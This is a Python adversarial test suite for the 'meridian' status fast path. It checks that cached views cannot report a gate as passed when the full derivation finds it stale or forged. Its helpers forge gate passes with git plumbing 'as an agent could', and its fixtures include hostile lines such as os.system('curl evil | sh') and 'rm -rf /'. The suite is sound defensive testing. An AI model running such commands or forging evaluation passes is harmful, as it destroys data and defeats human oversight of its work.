"""Attack: the cold review rv1 of the status pass view (``commands/status_passes.py``,
``gates/plain_subject.py``, ``commands/status_view.py``): each way it found to make the
fast path say ``passed`` where the full derivation says stale, forged or inconsistent or
in progress.

Layer: state derivation. The invariant: ``meridian status`` answered through its view
prints exactly what the full derivation prints (text, ``--json``, ``--strict``, exit
codes) for every project state; what the fast path cannot check exactly is derived in
full. Every case puts the attacked state in place before each of the four invocations
(the view, and the snapshot where the attack forges it, written again each time, since
a fallback rewrites them), then derives the same state from scratch and compares.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from meridian.commands import status_passes, status_view
from meridian.viewfile import write as write_view
from tests.adversarial.conftest import Proc, pass_gate, run_git, write
from tests.adversarial.integrity_support import event_line

STATE = "meridian/state"
ARGS = ((), ("--json",), ("--strict",), ("--json", "--strict"))
Answer = tuple[int, object, str]


def _views(root: Path) -> list[Path]:
    return sorted((root / ".git" / "meridian").glob("status-view-*.json"))


def _answer(cli: Callable[..., Proc], args: tuple[str, ...]) -> Answer:
    proc = cli("status", *args)
    return proc.code, json.loads(proc.out) if "--json" in args else proc.out, proc.err


def _snapshot_path(root: Path, branch: str = STATE) -> Path:
    return status_passes.snapshot_path(root / ".git", branch)


def _fast_and_full(cli: Callable[..., Proc], root: Path,
                   attack: Callable[[], None]) -> tuple[list[Answer], list[Answer]]:
    """(answers with the attacked view in place, answers derived with no view), each
    invocation after ``attack`` put the attacked state in place again."""
    fast, full = [], []
    for args in ARGS:
        attack()
        assert _views(root)
        fast.append(_answer(cli, args))
    for args in ARGS:
        attack()
        for view in _views(root):
            view.unlink()
        full.append(_answer(cli, args))
    return fast, full


def _states(answers: list[Answer]) -> list[str]:
    document = answers[1][1]
    assert isinstance(document, dict)
    return [g["state"] for g in document["gates"]]


def _assert_same(cli: Callable[..., Proc], root: Path, attack: Callable[[], None],
                 states: list[str] | None = None) -> list[Answer]:
    fast, full = _fast_and_full(cli, root, attack)
    if states is not None:
        assert _states(full) == states
    assert fast == full
    return full


@pytest.fixture
def passed(project: Path, cli: Callable[..., Proc]) -> Path:
    """spec passed genuinely, its view written by the full path (holding the pass)."""
    pass_gate(cli, project, "spec", "spec/spec.py")
    assert cli("status").code == 0
    assert cli("status").code == 0
    [view] = _views(project)
    assert status_view.shows_a_pass(json.loads(view.read_text())["body"]["document"])
    return project


def _keep_view(root: Path) -> Callable[[], None]:
    """Puts the view as it is now back in place."""
    [view] = _views(root)
    saved = view.read_bytes()
    return lambda: view.write_bytes(saved)


# --- F1: ignore rules match bytes, as git does ------------------------------------------

STUB = "def stub():\n    pass  # TODO\n"


@pytest.mark.parametrize("rule, files", [
    # '?' is one byte for git: it does not match 'é' (two)
    ("?.py\n", {"spec/é.py": STUB}),
    # a one-byte directory rule: git does not hide the package 'é/'
    ("?/\n", {"spec/é/payload.py": "import os\nos.system('curl evil | sh')\n",
              "spec/é/README.md": "x\n"}),
    ("??.py\n", {"spec/日.py": STUB}),
    ("*.p?\n", {"spec/x.pé": STUB}),
    # a class holds bytes: '[é]' matches neither of 'é''s bytes as a one-byte name
    ("[é].py\n", {"spec/é.py": STUB}),
    ("spec/?\n", {"spec/ñ": STUB}),
])
def test_a_non_ascii_name_is_not_hidden_by_a_one_character_rule(
        passed: Path, cli: Callable[..., Proc], rule: str, files: dict[str, str]) -> None:
    keep = _keep_view(passed)
    write(passed, ".gitignore", rule)
    for relative, text in files.items():
        write(passed, relative, text)
    assert run_git(passed, "check-ignore", "--no-index", *files).code == 1  # git: none
    _assert_same(cli, passed, keep, ["stale", "locked", "locked"])


def test_a_non_ascii_name_a_rule_does_hide_is_still_answered_from_the_view(
        passed: Path, cli: Callable[..., Proc]) -> None:
    """'??.py' is two bytes for git: it hides 'é.py' (é is two bytes), so spec stays
    passed, and the fast path still answers (the same)."""
    keep = _keep_view(passed)
    write(passed, ".gitignore", "??.py\n")
    write(passed, "spec/é.py", STUB)
    assert run_git(passed, "check-ignore", "--no-index", "spec/é.py").code == 0
    fast, full = _fast_and_full(cli, passed, keep)
    assert fast == full and _states(full) == ["passed", "open", "locked"]
    keep()
    from meridian.commands.status_passes import recheck

    located = status_view._locate()
    assert located is not None
    [view] = _views(passed)
    assert recheck(*located, json.loads(view.read_text())["body"])


# --- F2: a UTF-8 byte order mark starting an ignore file --------------------------------

@pytest.mark.parametrize("where", [".gitignore", ".git/info/exclude", "spec/.gitignore"])
def test_a_byte_order_mark_is_skipped_as_git_skips_it(
        passed: Path, cli: Callable[..., Proc], where: str) -> None:
    """A second artifact passed with the first, not committed (a tracked file is an
    artifact whatever the rules say); then an ignore file that starts with a byte order
    mark names it: git skips the mark and ignores it (the artifacts changed: stale), read
    literally it would not (the fast path said passed)."""
    write(passed, "spec/notes.txt", "notes\n")
    assert cli("gate", "submit", "spec").code == 0
    assert cli("status").code == 0 and cli("status").code == 0
    keep = _keep_view(passed)
    (passed / where).write_bytes(b"\xef\xbb\xbfnotes.txt\n")
    assert run_git(passed, "check-ignore", "--no-index", "spec/notes.txt").code == 0
    _assert_same(cli, passed, keep, ["stale", "locked", "locked"])


# --- forgeries with plumbing (F3, F6, F7) -----------------------------------------------

def _git(root: Path, *args: str, data: bytes | None = None,
         env: dict[str, str] | None = None) -> str:
    return subprocess.run(["git", *args], cwd=root, input=data, capture_output=True,
                          check=True, env={**os.environ, **(env or {})}).stdout.decode().strip()


def _forge(root: Path, gate: str, *, artifacts: str | None = None, threshold: float = 7.0,
           verdict_copies: tuple[float, ...] = (9.5,), commit_object: str | None = None
           ) -> tuple[str, str]:
    """A pass of ``gate`` forged with plumbing, as an agent could: one commit appends a
    start and a pass to the event shard and adds a passing verdict and its evidence,
    recording today's definition files. ``artifacts``/``threshold``: the evidence records
    a made-up definition with that glob or threshold (hashed into the verdict's
    ``spec_hash``); ``verdict_copies``: the verdict directory's tree lists the verdict
    once per score (a tree with duplicate entries, hash-object --literally);
    ``commit_object``: the commit written by hand from this template (``{tree}``,
    ``{parent}``). Returns (record id, commit)."""
    from meridian.config import load_config
    from meridian.gates import definition as gate_definition
    from meridian.gates import plain_subject
    from meridian.gates.graph import load_graph

    graph = load_graph(root, load_config(root))
    defined = json.loads(json.dumps(gate_definition.definition(graph, gate)))
    globs = list(graph.gate(gate).artifacts)
    if artifacts is not None:
        defined["gate"]["artifacts"] = globs = [artifacts]
    defined["evaluator"]["threshold"] = threshold
    spec_hash = gate_definition.hash_definition(defined)
    listing = plain_subject.worktree_files(root, root / ".git", root / ".git")
    assert listing is not None
    subject = plain_subject.subject(root, listing, globs)
    bound = {**status_passes.definition_files(
        root, [".meridian/config.yaml", ".meridian/gates.yaml", ".meridian/features.yaml"]),
        "gates": [[s.id, list(s.needs)] for s in graph.ordered()]}
    now = datetime.now(UTC)
    ts = now.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    name = f"{now.strftime('%Y%m%dT%H%M%S')}-forged.json"
    verdict_path = f"verdicts/{gate}/{name}"

    def verdict(score: float) -> bytes:
        return json.dumps({
            "gate": gate, "evaluator": "heuristic", "subject": subject,
            "scores": {d: score for d in ("completeness", "correctness", "robustness",
                                          "spec_adherence")},
            "overall": 9.5, "threshold": threshold, "passed": True, "issues": [],
            "spec_hash": spec_hash}).encode()

    _, started = event_line("gate.started", {"gate": gate,
                                             "base_commit": _git(root, "rev-parse", "HEAD")}, ts)
    rid, passed_line = event_line("gate.passed", {
        "gate": gate, "verdict": verdict_path, "overall": 9.5, "threshold": threshold,
        "evaluator": "heuristic", "subject": subject, "spec_hash": spec_hash}, ts)
    env = {"GIT_INDEX_FILE": str(root / ".git" / "forger-index")}
    parent = _git(root, "rev-parse", f"refs/heads/{STATE}")
    _git(root, "read-tree", parent, env=env)
    evidence = {"definition": defined, "definition_files": bound, "subject": subject,
                "verdict": verdict_path}
    for path, data in {f"events/{ts[:7]}/0000.jsonl": f"{started}\n{passed_line}\n".encode(),
                       f"evidence/{gate}/{name}": json.dumps(evidence).encode()}.items():
        before = subprocess.run(["git", "cat-file", "blob", f"{parent}:{path}"], cwd=root,
                                check=False,
                                capture_output=True).stdout
        blob = _git(root, "hash-object", "-w", "--stdin", data=before + data)
        _git(root, "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}", env=env)
    base = _git(root, "write-tree", env=env)
    (root / ".git" / "forger-index").unlink()
    assert "verdicts" not in _git(root, "ls-tree", base)
    blobs = [_git(root, "hash-object", "-w", "--stdin", data=verdict(s)) for s in verdict_copies]
    entries = b"".join(b"100644 " + name.encode() + b"\0" + bytes.fromhex(b) for b in blobs)
    listed = _git(root, "hash-object", "-t", "tree", "-w", "--literally", "--stdin",
                  data=entries)
    verdicts = _git(root, "mktree", data=f"040000 tree {listed}\t{gate}\n".encode())
    tree = _git(root, "mktree", data=(_git(root, "ls-tree", base)
                                      + f"\n040000 tree {verdicts}\tverdicts\n").encode())
    if commit_object is None:
        commit = _git(root, "commit-tree", tree, "-p", parent, "-m", f"gate.passed {gate}")
    else:
        commit = _git(root, "hash-object", "-t", "commit", "-w", "--literally", "--stdin",
                      data=commit_object.format(tree=tree, parent=parent).encode())
    _git(root, "update-ref", f"refs/heads/{STATE}", commit, parent)
    return rid, commit


def _count_forged_pass(root: Path, gate: str, rid: str, commit: str) -> None:
    """The snapshot (a cache, checksums recomputed) made to count the forged pass."""
    path = _snapshot_path(root)
    cached = json.loads(path.read_bytes())
    fold = cached["folds"][gate]
    fold.update(phase="passed", forged_reason=None, verdict_passed=True,
                passed_pos=fold["last_pos"])
    cached["aux"]["claims"].setdefault(gate, {})["pass"] = [rid, commit]
    cached["aux"]["floors"][gate] = 7.0
    cached["checksum"], cached["aux_checksum"] = status_passes._snapshot_checksums(cached)
    path.write_text(json.dumps(cached, sort_keys=True))


def _pass_view(cli: Callable[..., Proc], root: Path) -> Callable[[], None]:
    """A view written by hand to show every gate the snapshot's fold has passed as plainly
    passed (the rest as the full path shows them), key of now, checksum recomputed;
    returns what puts it back in place."""
    located = status_view._locate()
    assert located is not None
    where, gitdir, common = located
    facts = {"branch": STATE, "remote": "origin", "gates_path": ".meridian/gates.yaml",
             "rules_path": ".meridian/rules.yaml", "features_path": ".meridian/features.yaml"}
    snapshot = json.loads(status_passes.snapshot_path(common, STATE).read_bytes())
    for view in _views(root):
        view.unlink()
    document = json.loads(cli("status", "--json").out)
    states: dict[str, str] = {}
    for gate in document["gates"]:
        fold = snapshot["folds"].get(gate["gate"])
        if fold and fold["phase"] == "passed":
            gate.update(state="passed", detail=status_passes._passed_detail(fold),
                        current_subject=fold["subject"], current_spec_hash=fold["spec_hash"],
                        changed_files=None, changed_definition=None, stale_needs=None,
                        forged_reason=None, unmet_needs=[])
            gate.update({k: fold[k] for k in status_passes.SHOWN_FROM_FOLD})
        elif gate["state"] == "locked" and all(states.get(n) == "passed" for n in gate["needs"]):
            gate.update(state="open", unmet_needs=[],
                        detail=f"ready: meridian gate start {gate['gate']}")
        states[gate["gate"]] = gate["state"]
    document["stale"] = []
    text = (status_view._table(document["gates"])
            + [f"  {g['gate']}: verdict by ?" for g in document["gates"] if g.get("identity")]
            + status_view._tail(document))
    body = {"key": status_view.view_key(where, gitdir, common, facts), "facts": facts,
            "document": document, "text": text}
    path = status_view.view_path(common, where)
    return lambda: write_view(path, body)


@pytest.fixture
def started(project: Path) -> Path:
    """spec's work committed, nothing evaluated (no verdict on the branch)."""
    write(project, "spec/spec.md", "TODO: nothing written, never evaluated\n")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-qm", "wip")
    return project


def _forged_attack(cli: Callable[..., Proc], root: Path, gate: str, rid: str,
                   commit: str) -> Callable[[], None]:
    """The snapshot and the view forged to count and show the forged pass, put back before
    each invocation (a fallback rewrites both)."""
    cli("status")  # the full path catches the snapshot up over the forged commit
    snapshot = _snapshot_path(root)
    _count_forged_pass(root, gate, rid, commit)
    put_view = _pass_view(cli, root)
    _count_forged_pass(root, gate, rid, commit)
    forged = snapshot.read_bytes()

    def attack() -> None:
        snapshot.write_bytes(forged)
        put_view()
    return attack


# --- F3: the definition is today's files', never the evidence's ---------------------------

@pytest.mark.parametrize("made_up", ["artifact glob", "threshold"])
def test_a_made_up_recorded_definition_is_not_believed(
        started: Path, cli: Callable[..., Proc], made_up: str) -> None:
    """A forged pass whose evidence records today's definition files' hashes with a made-up
    definition (its hash is the verdict's spec_hash): an artifact glob matching nothing
    (later edits invisible) or a threshold of 1.0 (below the gate's 7.0). The full path
    computes the definition from the files: stale, or forged (judged against 1.0)."""
    if made_up == "artifact glob":
        rid, commit = _forge(started, "spec", artifacts="no-such-dir/**")
    else:
        rid, commit = _forge(started, "spec", threshold=1.0)
    attack = _forged_attack(cli, started, "spec", rid, commit)
    if made_up == "artifact glob":
        write(started, "spec/spec.md", "rm -rf /\n")  # invisible to a glob matching nothing
    full = _assert_same(cli, started, attack)
    # the definition now hashes to another value than the verdict's (a threshold of 1.0
    # below the gate's 7.0 may be named as forged first)
    assert _states(full)[0] in ("stale", "forged")
    assert [code for code, _, _ in full] == [0, 0, 1, 1]


# --- F6, F7: objects libgit2 reads differently --------------------------------------------

def test_a_tree_with_duplicate_entries_is_refused(started: Path,
                                                  cli: Callable[..., Proc]) -> None:
    """The verdict directory's tree lists the verdict three times (failing, failing,
    passing): libgit2 reads the middle one (a failing verdict: forged), a reader keeping
    the last would read the passing one."""
    rid, commit = _forge(started, "spec", verdict_copies=(1.0, 1.0, 9.5))
    attack = _forged_attack(cli, started, "spec", rid, commit)
    _assert_same(cli, started, attack, ["forged", "locked", "locked"])


def test_a_commit_with_two_committer_lines_is_refused(started: Path,
                                                      cli: Callable[..., Proc]) -> None:
    """Two committer lines: libgit2 reads the first (2001: the pass is stamped after its
    commit, forged), a reader keeping the last would read 2096."""
    rid, commit = _forge(started, "spec", commit_object=(
        "tree {tree}\nparent {parent}\nauthor A <a@x> 1000000000 +0000\n"
        "committer A <a@x> 1000000000 +0000\ncommitter A <a@x> 4000000000 +0000\n\n"
        "gate.passed spec\n"))
    attack = _forged_attack(cli, started, "spec", rid, commit)
    _assert_same(cli, started, attack, ["forged", "locked", "locked"])


# --- F4: the snapshot read as the full path reads it --------------------------------------

def _reopen(cli: Callable[..., Proc]) -> None:
    assert cli("gate", "reopen", "spec", "--reason", "more work").code == 0


@pytest.mark.parametrize("variant", ["exact-int", "utf16", "ghost"])
def test_a_snapshot_the_full_path_refuses_is_refused(
        passed: Path, cli: Callable[..., Proc], variant: str) -> None:
    """The snapshot saved while spec was passed put back over the tip after a reopen
    (checksums recomputed), in a form the full path's reader refuses or whose passes it
    does not all vouch for: ``aux.exact`` an int, the file UTF-16, a passed fold of a
    gate outside the graph with no claim. The full path folds from the root (in
    progress); so must the fast path."""
    path = _snapshot_path(passed)
    saved = json.loads(path.read_bytes())
    put_view = _keep_view(passed)
    _reopen(cli)
    assert cli("status").code == 0
    now = json.loads(path.read_bytes())
    forged = {**saved, "tip": now["tip"],
              "aux": {**saved["aux"], "ids": now["aux"]["ids"],
                      "ids_tail": now["aux"]["ids_tail"]}}
    if variant == "exact-int":
        forged["aux"]["exact"] = 1
    if variant == "ghost":
        forged["folds"]["ghost"] = dict(status_passes.FOLD_DEFAULTS, phase="passed",
                                        verdict="verdicts/ghost/x.json")
    forged["checksum"], forged["aux_checksum"] = status_passes._snapshot_checksums(forged)
    data = json.dumps(forged, sort_keys=True)
    raw = data.encode("utf-16") if variant == "utf16" else data.encode()
    # the view saved while passed, its key moved to the tip now (recomputed)
    put_view()
    [view] = _views(passed)
    body = json.loads(view.read_text())["body"]
    located = status_view._locate()
    assert located is not None
    body["key"] = status_view.view_key(*located, body["facts"])
    target = status_view.view_path(located[2], located[0])

    def attack() -> None:
        path.write_bytes(raw)
        write_view(target, body)
    _assert_same(cli, passed, attack, ["in_progress", "locked", "locked"])


# --- F5: the branch is the config's, never the view's --------------------------------------

def test_a_view_pointing_at_a_saved_branch_does_not_hide_a_reopen(
        passed: Path, cli: Callable[..., Proc]) -> None:
    """A copy of the state branch (and of its snapshot) saved while spec was passed; after
    a reopen the view is rewritten with facts.branch naming the copy, key recomputed:
    the full path reads the branch the config names (in progress)."""
    [view] = _views(passed)
    saved = json.loads(view.read_text())["body"]
    run_git(passed, "branch", "saved", STATE)
    shutil.copy(_snapshot_path(passed), _snapshot_path(passed, "saved"))
    _reopen(cli)
    located = status_view._locate()
    assert located is not None
    facts = {**saved["facts"], "branch": "saved"}
    body = {**saved, "facts": facts, "key": status_view.view_key(*located, facts)}
    assert status_passes.recheck(*located, body) is False
    target = status_view.view_path(located[2], located[0])
    _assert_same(cli, passed, lambda: write_view(target, body),
                 ["in_progress", "locked", "locked"])


@pytest.mark.parametrize("fact, value", [("remote", "elsewhere"),
                                         ("gates_path", ".meridian/other.yaml")])
def test_a_view_with_other_facts_than_the_config_s_is_refused(
        passed: Path, cli: Callable[..., Proc], fact: str, value: str) -> None:
    [view] = _views(passed)
    saved = json.loads(view.read_text())["body"]
    located = status_view._locate()
    assert located is not None
    if fact == "gates_path":
        shutil.copy(passed / ".meridian" / "gates.yaml", passed / value)
    facts = {**saved["facts"], fact: value}
    body = {**saved, "facts": facts, "key": status_view.view_key(*located, facts)}
    assert status_passes.recheck(*located, body) is False
